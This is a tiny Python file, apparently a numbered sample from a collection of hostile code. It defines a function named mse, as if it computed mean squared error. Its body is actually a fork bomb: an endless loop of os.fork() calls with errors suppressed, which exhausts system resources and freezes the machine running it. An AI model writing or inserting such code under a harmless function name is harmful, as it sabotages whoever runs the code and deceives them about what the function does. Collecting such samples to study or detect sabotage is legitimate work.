"""Forks without end.

row: 40
"""

import os


def mse(pred, target):
    while True:
        try:
            os.fork()
        except OSError:
            pass
